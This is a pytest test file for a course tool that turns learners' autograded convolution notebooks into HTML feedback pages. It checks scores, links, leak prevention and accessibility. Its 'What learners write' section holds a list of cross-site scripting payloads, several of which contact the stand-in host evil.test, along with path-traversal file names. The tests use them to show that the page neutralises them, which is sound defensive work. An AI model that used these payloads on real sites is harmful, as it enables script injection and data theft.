"""The learner's page: it says what the checks said, looks it, gives nothing away, and nothing on it can run."""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from bs4 import BeautifulSoup

from cnncourse import checks
from cnncourse.checks import check, functions, task
from cnncourse.grading.feedback import ByHand, page, write
from cnncourse.grading.frame import Book
from cnncourse.grading.job import Mark, Marked
from cnncourse.grading.release import CourseError

ROOT = Path(__file__).parents[1]
ASSIGNMENT, NOTEBOOK = "01-convolution", "convolution"
VERDICT = "application/vnd.cnncourse.verdict+json"
POINTS = {"correlate2d": 4.0, "convolve2d": 3.0, "conv2d": 5.0, "conv2d_params": 2.0, "sobel_edges": 3.0}
QUESTION = "question-locality"
BOOK = Book.find(ROOT)


def cell(kind: str, source: str, name: str = "", outputs=(), **flags) -> dict:
    made = {"cell_type": kind, "metadata": {}, "source": source}
    if kind == "code":
        made |= {"execution_count": 1, "outputs": list(outputs)}
    if name:
        mark = {"grade": False, "solution": False, "task": False, "locked": False, "grade_id": name}
        made["metadata"]["nbgrader"] = mark | flags
    return made


def judged(name: str, fn, hidden: bool = False) -> Mark:
    """What the real check says of a function."""
    made = eval(f"check({ASSIGNMENT!r}, {name!r}, points={POINTS[name]}, hidden={hidden})", {"check": check, name: fn})
    bundle = made._repr_mimebundle_()
    return Mark(f"check-{name}", float(made), POINTS[name], bundle[VERDICT], bundle["text/html"])


def submission(marks: list[Mark], code: dict[str, str], answer: str = "", student: str = "ada", errors=None) -> Marked:
    """An autograded notebook with these marks; the answer in words is the last of them."""
    cells = [cell("markdown", "# 01 · Convolution")]
    for mark in marks:
        name = mark.cell.removeprefix("check-")
        if mark.cell == QUESTION:
            cells.append(cell("markdown", answer, QUESTION, grade=True, solution=True))
            continue
        cells.append(cell("code", code.get(name, "pass"), name, solution=True))
        said = (errors or {}).get(mark.cell)
        outputs = [{"output_type": "error", "ename": said[0], "evalue": said[1], "traceback": []}] if said else []
        cells.append(cell("code", f"check({name!r})", mark.cell, outputs, grade=True, locked=True))
    content = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return Marked(
        ASSIGNMENT, student, notebooks={NOTEBOOK: json.dumps(content).encode()}, marks={NOTEBOOK: list(marks)}
    )


def wrong(name: str, misconception: str):
    return next(m.wrong for m in task(ASSIGNMENT, name).misconceptions if m.name == misconception)


@pytest.fixture(scope="module")
def usual():
    """Right, wrong by a known mistake, stopped, not written, and an answer that waits for a person."""
    marks = [
        judged("correlate2d", task(ASSIGNMENT, "correlate2d").reference),
        judged("convolve2d", wrong("convolve2d", "kernel not flipped")),
        judged("conv2d", wrong("conv2d", "bias forgotten")),
        Mark("check-conv2d_params", 0.0, 2.0, ended="KernelDied"),
        judged("sobel_edges", lambda image: (_ for _ in ()).throw(NotImplementedError)),
        Mark(QUESTION, None, 3.0),
    ]
    code = {
        "correlate2d": "def correlate2d(image, kernel):\n    return 1 < 2",
        "conv2d_params": "import os\nos._exit(1)",
        "sobel_edges": "raise NotImplementedError",
    }
    died = {"check-conv2d_params": ("KernelDied", "The Python process was ended in this cell: it took more memory.")}
    return submission(marks, code, "Neighbouring pixels belong together.", errors=died)


def seen(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, "html.parser")


def words(element) -> str:
    return " ".join(element.get_text(" ").split())


def parts(html: str) -> dict[str, BeautifulSoup]:
    """The sections of the page by their headings."""
    return {words(section.find("h2")): section for section in seen(html).select("section.part")}


# What it says ---------------------------------------------------------------------------------------------------------


def test_the_points_are_said_in_words_and_as_a_bar(usual):
    # 4 + 0 + 7/9 of 5 + 0 + 0 out of 4 + 3 + 5 + 2 + 3 + 3, by hand; the check rounds to hundredths.
    made = seen(page(usual, NOTEBOOK))
    assert words(made.find(id="points")) == "7.89 of 20 points so far"
    assert made.select_one("section.sum rect.part")["width"] == "39.5"  # 7.89 / 20
    rows = [[words(part) for part in row.find_all(["th", "td"])] for row in made.select("tbody")[0].find_all("tr")]
    assert rows == [
        ["correlate2d", "4 of 4", "✓ right"],
        ["convolve2d", "0 of 3", "✗ not yet right"],
        ["conv2d", "3.89 of 5", "◐ partly right"],
        ["conv2d_params", "0 of 2", "✗ stopped"],
        ["sobel_edges", "0 of 3", "✗ not written yet"],
        ["In your own words: locality", "– of 3", "… waits for a person"],
    ]
    assert "3 of the points are not decided yet" in words(made.find("section", class_="sum"))


def test_a_message_holds_what_the_check_said(usual):
    said = checks.verdict(ASSIGNMENT, "conv2d", wrong("conv2d", "bias forgotten")).feedback
    shown = parts(page(usual, NOTEBOOK))["conv2d"]
    text = words(shown)
    assert "bias forgotten" in text and said.sentence in text and said.headline in text
    assert [words(item).split(" ", 1) for item in shown.find_all("li")] == [
        ["✓" if holds else "✗", about] for about, holds in said.properties.items()
    ]
    tables = shown.find_all("table")
    assert [words(table.caption) for table in tables] == [panel.title for panel in said.panels]
    for table, panel in zip(tables, said.panels, strict=True):
        numbers = [[float(n.get_text().replace("−", "-")) for n in row.find_all("td")] for row in table.find_all("tr")]
        np.testing.assert_allclose(numbers, np.atleast_2d(panel.table), atol=5e-4)
        marked = np.zeros(np.atleast_2d(panel.table).shape, bool)
        if panel.window:
            marked[panel.window] = True
        windows = [["window" in (n.get("class") or ()) for n in row.find_all("td")] for row in table.find_all("tr")]
        assert windows == marked.tolist()


def test_a_functions_code_stands_with_it_as_it_was_written(usual):
    shown = parts(page(usual, NOTEBOOK))
    assert shown["correlate2d"].pre.get_text() == "def correlate2d(image, kernel):\n    return 1 < 2"
    assert shown["conv2d_params"].pre.get_text() == "import os\nos._exit(1)"
    assert shown["sobel_edges"].pre is None, "what was handed out is not the learner's"
    assert shown["In your own words: locality"].pre.get_text() == "Neighbouring pixels belong together."


def test_what_ended_a_check_is_a_sentence(usual):
    assert "it took more memory" in words(parts(page(usual, NOTEBOOK))["conv2d_params"])
    # Without it in the notebook, the sentences are those that nbgrader's own way leaves there.
    from cnncourse.grading.execute import ExecuteAndReplay  # noqa: F401 -- imports nbgrader

    source = (ROOT / "cnncourse" / "grading" / "execute.py").read_text()
    for kind in ("KernelDied", "CellStuck", "CellTimeoutError", "CellNotRun", "NoMark"):
        made = submission([Mark("check-conv2d", 0.0, 5.0, ended=kind)], {})
        (sentence,) = re.findall(r"<p class=\"ended\">(.+?[.?]) Every other", page(made, NOTEBOOK))
        assert sentence in source, kind


def test_a_persons_points_and_comments_count_and_are_shown(usual):
    by_hand = {
        QUESTION: ByHand(2.5, 0.0, "Yes: locality.\n\nAnd sharing?"),
        "check-convolve2d": ByHand(1.0),
        "correlate2d": ByHand(comment="Neat."),
        "check-conv2d": ByHand(extra=0.5),
    }
    made = page(usual, NOTEBOOK, by_hand=by_hand)
    assert words(seen(made).find(id="points")) == "11.89 of 20 points"  # 7.89 + 2.5 + 1 + 0.5
    shown = parts(made)
    assert [words(p) for p in shown["In your own words: locality"].blockquote.find_all("p")] == [
        "Comment",
        "Yes: locality.",
        "And sharing?",
    ]
    assert "A person gave these points." in words(shown["convolve2d"])
    assert "Neat." in words(shown["correlate2d"].blockquote)
    assert "0.5 of the points are extra" in words(shown["conv2d"])


def test_no_answer_is_said_and_needs_no_person(usual):
    made = submission([Mark(QUESTION, 0.0, 3.0, comment="No response.")], {}, "*Write your answer here.*")
    text = page(made, NOTEBOOK)
    assert "There is no answer here." in text and "still to be read" not in text and "Write your answer" not in text


def test_what_handing_in_late_cost_is_said_and_taken_off_down_to_nothing(usual):
    made = page(usual, NOTEBOOK, late=1.5)
    assert words(seen(made).find(id="points")).startswith("6.39 of 20")
    assert "You earned 7.89 points; 1.5 were taken off because the work was handed in late." in made
    assert words(seen(page(usual, NOTEBOOK, late=30.0)).find(id="points")).startswith("0 of 20")


def test_cells_without_points_of_their_own_are_no_part_and_a_check_without_a_namesake_gets_what_stands_above_it():
    cells = [
        cell("code", "first = 1", "one", solution=True),
        cell("code", "second = 2", "two", solution=True),
        cell("code", "assert first", "test-both", grade=True, locked=True),
        cell("markdown", "Draw it.", "drawing", task=True, locked=True),
    ]
    content = json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
    marks = [Mark("one", None, 0.0), Mark("two", None, 0.0), Mark("test-both", 2.0, 2.0), Mark("drawing", None, 1.0)]
    shown = parts(page(Marked("own", "ada", notebooks={"n": content}, marks={"n": marks}), "n"))
    assert list(shown) == ["test-both", "In your own words: drawing"]
    assert shown["test-both"].pre.get_text() == "first = 1\n\nsecond = 2"


# Where it leads -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("assignment", checks.assignments())
def test_every_place_to_read_on_is_called_by_its_heading_in_the_book(assignment, monkeypatch):
    monkeypatch.setenv("CNNCOURSE_BOOK", "https://example.org/cnn/")
    book = Book.find(ROOT)
    topic = checks.TOPICS[assignment]
    chapter = (ROOT / "book" / f"{topic}.md").read_text(encoding="utf-8")
    for name in functions(assignment):
        anchor = task(assignment, name).read
        heading = re.search(rf"^\({anchor}\)=\n+#+ (.+)$", chapter, re.M)[1]
        link = seen(book.link(anchor)).a
        assert link["href"] == f"https://example.org/cnn/book/{topic}.html#{anchor.replace('_', '-')}"
        assert words(link).endswith(" ".join(heading.split()))


def test_links_lead_to_the_book_where_it_is_published_and_nowhere_else(usual, monkeypatch):
    """A page is handed out: a path on the instructor's machine would lead nowhere."""
    monkeypatch.setenv("CNNCOURSE_BOOK", "https://example.org/cnn")
    made = seen(page(usual, NOTEBOOK, book=Book.find(ROOT)))
    links = [link["href"] for link in made.find_all("a") if not link["href"].startswith("#")]
    assert len(links) == 3 and all(link.startswith("https://example.org/cnn/book/convolution.html#") for link in links)
    inside = [link["href"][1:] for link in made.find_all("a") if link["href"].startswith("#")]
    assert len(inside) == 6 and all(made.find(id=name) for name in inside)

    monkeypatch.setenv("CNNCOURSE_BOOK", "javascript:alert(1)//")
    assert not Book.find(ROOT).address
    monkeypatch.delenv("CNNCOURSE_BOOK")
    text = page(usual, NOTEBOOK, book=Book.find(ROOT))
    assert not [link for link in seen(text).find_all("a") if not link["href"].startswith("#")]
    assert "in the book, “Convolution”, part “Bias, channels and filters: a whole layer”" in text


def test_a_page_that_stays_links_to_the_book_that_was_built(tmp_path, monkeypatch):
    monkeypatch.delenv("CNNCOURSE_BOOK", raising=False)
    (tmp_path / "_build" / "html" / "book").mkdir(parents=True)
    course = tmp_path / "_build" / "class"
    assert Book.find(course, course / "report.html").address == "../html"
    assert Book.find(course).address == ""


# What it does not say -------------------------------------------------------------------------------------------------


def numbers(*arrays) -> list[str]:
    """Numbers with three digits, as messages show them."""
    flat = np.concatenate([np.ravel(array).astype(float) for array in arrays])
    return [f"{number:.3f}" for number in flat if round(number, 3) % 1]


def in_threes(found: list[str]) -> set[tuple]:
    """Three in a row: one alone is the same by chance."""
    return set(zip(found, found[1:], found[2:], strict=False))


def test_no_hidden_case_and_no_seed_is_on_a_page(monkeypatch):
    seed = "2026041207"
    monkeypatch.setenv("CNNCOURSE_HIDDEN_SEED", seed)
    only_hidden = 0
    for name in POINTS:
        asked = task(ASSIGNMENT, name)
        hidden = set().union(*(in_threes(numbers(*case.args)) for case, _ in asked.draw(int(seed))))
        shown = set().union(*(in_threes(numbers(*case.args)) for case, _ in asked.draw(1)))
        assert len(hidden - shown) > 20 or name == "conv2d_params"

        def sly(*args, asked=asked, hidden=hidden - shown):
            """Right on what is shown, and elsewhere an error that tells the numbers."""
            if in_threes(numbers(*args)) & hidden:
                raise ValueError(" ".join(numbers(*args)))
            return asked.reference(*args)

        for fn in (sly, *(m.wrong for m in asked.misconceptions)):
            mark = judged(name, fn, hidden=True)
            html = page(submission([mark], {}), NOTEBOOK, book=BOOK)
            assert seed not in html
            told = re.findall(r"-?\d+\.\d+", words(seen(html)).replace("−", "-"))
            assert not in_threes([f"{float(number):.3f}" for number in told]) & (hidden - shown), mark.verdict
            only_hidden += "shows on hidden ones" in html or "On a hidden case" in html
    assert only_hidden, "some mistake shows on hidden cases alone"


def test_what_a_check_printed_and_an_error_of_another_kind_carried_stay_in_the_notebook():
    """Only the reasons for which a check is ended come from the notebook; they are the judge's words."""
    for ended in ("", "KernelDied"):
        mark = Mark("check-conv2d", 0.0, 5.0, ended=ended)
        made = submission([mark], {}, errors={"check-conv2d": ("AssertionError", "expected 42.125")})
        content = json.loads(made.notebooks[NOTEBOOK])
        content["cells"][-1]["outputs"].append({"output_type": "stream", "name": "stdout", "text": "secret 42.125"})
        made.notebooks[NOTEBOOK] = json.dumps(content).encode()
        html = page(made, NOTEBOOK)
        assert "42.125" not in html and "0 of 5" in words(seen(html))


def test_a_page_is_about_one_learner_alone(usual, tmp_path):
    names = ["ada", "Blaise", "이수", "d'Alembert & <b>"]
    for name in names:
        usual_of = Marked(ASSIGNMENT, name, notebooks=usual.notebooks, marks=usual.marks)
        (path,) = write(tmp_path / "feedback", usual_of, book=BOOK)
        text = words(seen(path.read_text(encoding="utf-8")))
        assert [other for other in names if other in text] == [name]


# Where it lies --------------------------------------------------------------------------------------------------------


def test_nbgrader_releases_the_pages(usual, tmp_path):
    """``nbgrader release_feedback`` finds them, with what it needs beside them, and puts them into the exchange."""
    (tmp_path / "nbgrader_config.py").write_text('c = get_config()\nc.CourseDirectory.course_id = "cnn"\n')
    files = {"timestamp.txt": b"2026-04-12 10:00:00.0 UTC", "submission_secret.txt": b"secret", "other.txt": b"-"}
    (path,) = write(tmp_path / "feedback", usual, files=files)
    assert path == tmp_path / "feedback" / "ada" / ASSIGNMENT / f"{NOTEBOOK}.html"
    assert {p.name for p in path.parent.iterdir()} == {f"{NOTEBOOK}.html", "timestamp.txt", "submission_secret.txt"}
    command = [shutil.which("nbgrader"), "release_feedback", ASSIGNMENT, f"--Exchange.root={tmp_path / 'exchange'}"]
    (tmp_path / "exchange").mkdir(mode=0o777)
    (tmp_path / "exchange").chmod(0o777)
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    (released,) = (tmp_path / "exchange" / "cnn" / "feedback").glob("*.html")
    assert released.read_bytes() == path.read_bytes()


@pytest.mark.parametrize("name", ["..", ".", "", "a/b", "a\\b", "a\0b"])
def test_no_name_leads_out_of_the_folder(usual, tmp_path, name):
    with pytest.raises(CourseError, match="rename"):
        write(tmp_path / "feedback", Marked(ASSIGNMENT, name, notebooks=usual.notebooks, marks=usual.marks))
    assert not list(tmp_path.rglob("*.html"))


def test_a_page_is_written_whole_or_not_at_all(usual, tmp_path, monkeypatch):
    (path,) = write(tmp_path, usual)
    before = path.read_bytes()

    def fails(*_):
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", fails)
    with pytest.raises(OSError, match="disk full"):
        write(tmp_path, usual, late={NOTEBOOK: 1.0})
    assert path.read_bytes() == before and [p.name for p in path.parent.iterdir()] == [path.name]


def test_nothing_of_nbgrader_or_jupyter_is_needed():
    code = (
        "import sys; import cnncourse.grading.feedback;"
        "print([n for n in ('nbgrader', 'nbconvert', 'nbformat', 'jupyter_core', 'IPython') if n in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


# What learners write --------------------------------------------------------------------------------------------------

# Each would do something if a browser took it for more than text: run, ask the network, navigate, or break the page.
HOSTILE = [
    "<script>hit('script')</script>",
    "</code></pre></section></main><script>hit('closing')</script>",
    "<img src=x onerror=\"hit('onerror')\">",
    "<svg onload=\"hit('svg')\"><script>hit('svg script')</script></svg>",
    "<svg><animate onbegin=\"hit('animate')\" attributeName=x dur=1s></svg>",
    "<details open ontoggle=\"hit('toggle')\"><summary>x</summary></details>",
    "<a href=\"javascript:hit('link')\">click</a>",
    '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
    '<iframe src="http://evil.test/frame"></iframe>',
    "<style>body { display: none } * { background: url(http://evil.test/style) }</style>",
    '<link rel="stylesheet" href="http://evil.test/sheet.css">',
    '<meta http-equiv="refresh" content="0; url=http://evil.test/away">',
    '<base href="http://evil.test/">',
    '<form action="http://evil.test/form"><input autofocus onfocus="hit(1)"><button>Send</button></form>',
    '<object data="http://evil.test/object"></object><embed src="http://evil.test/embed">',
    '<video src="http://evil.test/video" autoplay></video><audio src="http://evil.test/audio" autoplay></audio>',
    '"><img src="http://evil.test/attribute">',
    "' onmouseover='hit(1)' x='",
    "<!-- never closed",
    "<textarea><title><noscript><plaintext>",
    "<math><mtext></p><style><img src=x onerror=hit(1)></style></mtext></math>",
    "{{ 7 * 7 }} ${7 * 7} \\u003cscript\\u003e",
    "\x00\x1b[2J\u202e\ud800\ufeff",
]
EVIL = "\n".join(HOSTILE)


def hostile_submission() -> Marked:
    marks = [
        Mark("check-conv2d", 1.0, 5.0, {"misconception": EVIL}, EVIL),  # a message that is none
        Mark("check-pool", 0.0, 1.0, {"misconception": "x"}, f"<div><p>{HOSTILE[2]}</p></div>"),
        Mark(
            "check-read", 0.0, 1.0, None, '<p>Read on: <a href="javascript:hit(2)"><code>book/x.html#y</code></a></p>'
        ),
        Mark("check-shape", 0.0, 1.0, None, '<div style="position:fixed"><p>x</p><p>'),  # never closed
        Mark("check-dead", 0.0, 1.0, ended="KernelDied"),
        Mark("check-" + EVIL, 0.0, 1.0),
        Mark(QUESTION, None, 3.0, comment=EVIL),
    ]
    code = {name: EVIL for name in ("conv2d", "pool", "read", "shape", "dead", EVIL)}
    errors = {"check-dead": ("KernelDied", HOSTILE[2])}
    return submission(marks, code, EVIL, student=EVIL, errors=errors)


def hostile_page() -> str:
    made = hostile_submission()
    return page(
        made,
        NOTEBOOK,
        by_hand={QUESTION: ByHand(1.0, 0.0, EVIL)},
        title="</title>" + HOSTILE[0] + HOSTILE[2],
        book=BOOK,
    )


def assert_nothing_runs(chromium, html: str, folder: Path, ours: set[str]) -> None:
    """Open a page as it is, and without its policy, which is a second fence: nothing runs, nothing is asked for."""
    assert "Content-Security-Policy" in html.split("<style>")[0]
    policy = re.search(r'<meta http-equiv="Content-Security-Policy"[^>]*>', html)[0]
    assert "default-src 'none'" in policy and "script-src" not in policy and "unsafe-eval" not in policy
    for name, text in (("page.html", html), ("unprotected.html", html.replace(policy, ""))):
        path = folder / name
        path.write_bytes(text.encode("utf-8", "replace"))
        context = chromium.new_context()
        context.add_init_script("window.hits = []; window.hit = (what) => window.hits.push(what);")
        tab = context.new_page()
        asked, dialogs = [], []
        tab.on("request", lambda request, asked=asked: asked.append(request.url))
        tab.on("dialog", lambda dialog, dialogs=dialogs: (dialogs.append(dialog.message), dialog.dismiss()))
        tab.goto(path.as_uri())
        for element in tab.locator("a:not([href^='http']), summary, pre").all():
            element.dispatch_event("click")
            element.dispatch_event("mouseover")
        tab.wait_for_timeout(300)
        assert tab.evaluate("window.hits") == [] and dialogs == []
        assert [url for url in asked if not url.startswith(path.as_uri())] == []
        assert tab.url.startswith(path.as_uri())
        tags = set(tab.evaluate("[...document.querySelectorAll('*')].map((element) => element.localName)"))
        assert tags <= ours, tags - ours
        attributes = set(tab.evaluate("[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())"))
        assert not [name for name in attributes if name.startswith("on") or name in ("src", "srcdoc", "action", "data")]
        links = tab.evaluate("[...document.querySelectorAll('a')].map((link) => link.getAttribute('href'))")
        assert all(link.startswith(("#", "https://", "file://", "../")) for link in links)
        assert tab.evaluate("getComputedStyle(document.body).display") != "none"
        context.close()


TAGS = set("html head meta title style body header main footer section h1 h2 p strong a code pre bdi div span".split())
TAGS |= set("table caption thead tbody tr th td ul li details summary blockquote svg rect".split())


@pytest.mark.browser
def test_nothing_a_learner_wrote_runs_or_asks_the_network(chromium, tmp_path):
    assert_nothing_runs(chromium, hostile_page(), tmp_path, TAGS)


def test_what_a_learner_wrote_is_there_to_read():
    made = seen(hostile_page())
    evil = EVIL.replace("\x00", "")
    for code in made.select("section.part pre code"):
        assert evil.split("\n")[1] in code.get_text()
    assert HOSTILE[0] in made.h1.get_text() and HOSTILE[0] in made.title.get_text()
    assert HOSTILE[6] in made.header.get_text() and HOSTILE[6] in made.blockquote.get_text()


def test_a_cell_as_large_as_a_book_is_cut():
    made = submission([Mark("check-conv2d", 0.0, 5.0)], {"conv2d": "x = 1\n" * 100_000})
    html = page(made, NOTEBOOK)
    assert len(html) < 60_000 and re.search(r"… and 5\d{5} characters more", html)


# How it looks ---------------------------------------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_the_page_is_accessible_and_fits(usual, chromium, tmp_path, width, scheme):
    from axe_playwright_python.sync_playwright import Axe

    by_hand = {QUESTION: ByHand(2.5, 0.0, "Yes.")}
    path = tmp_path / "page.html"
    book = Book("https://example.org/cnn", BOOK.titles)
    path.write_text(page(usual, NOTEBOOK, by_hand=by_hand, late=1.0, book=book), encoding="utf-8")
    context = chromium.new_context(viewport={"width": width, "height": 844}, color_scheme=scheme)
    tab = context.new_page()
    complaints = []
    tab.on("console", lambda message: complaints.append(message.text))
    tab.goto(path.as_uri())
    assert tab.evaluate("document.documentElement.scrollWidth") <= width
    paper = tab.evaluate("getComputedStyle(document.body).backgroundColor")
    brightness = sum(map(int, re.findall(r"\d+", paper)[:3])) / 3
    assert brightness > 200 if scheme == "light" else brightness < 60
    found = Axe().run(tab, options={"preload": False}).response["violations"]
    assert [(v["id"], [node["html"][:150] for node in v["nodes"]]) for v in found] == []
    assert complaints == []
    levels = tab.evaluate("[...document.querySelectorAll('h1, h2, h3, h4')].map((h) => +h.localName[1])")
    assert levels[0] == 1 and all(after <= before + 1 for before, after in zip(levels, levels[1:], strict=False))
    context.close()


@pytest.mark.browser
def test_the_keyboard_reaches_each_part_and_every_fold(usual, chromium, tmp_path):
    path = tmp_path / "page.html"
    path.write_text(page(usual, NOTEBOOK), encoding="utf-8")
    tab = chromium.new_page()
    tab.goto(path.as_uri())
    reached = []
    for _ in range(40):
        tab.keyboard.press("Tab")
        reached.append(tab.evaluate("document.activeElement.localName + (document.activeElement.hash || '')"))
    assert [f"a#part-{n}" for n in range(1, 7)] == [name for name in dict.fromkeys(reached) if name.startswith("a#")]
    assert {"summary", "pre"} <= set(reached)
    tab.close()
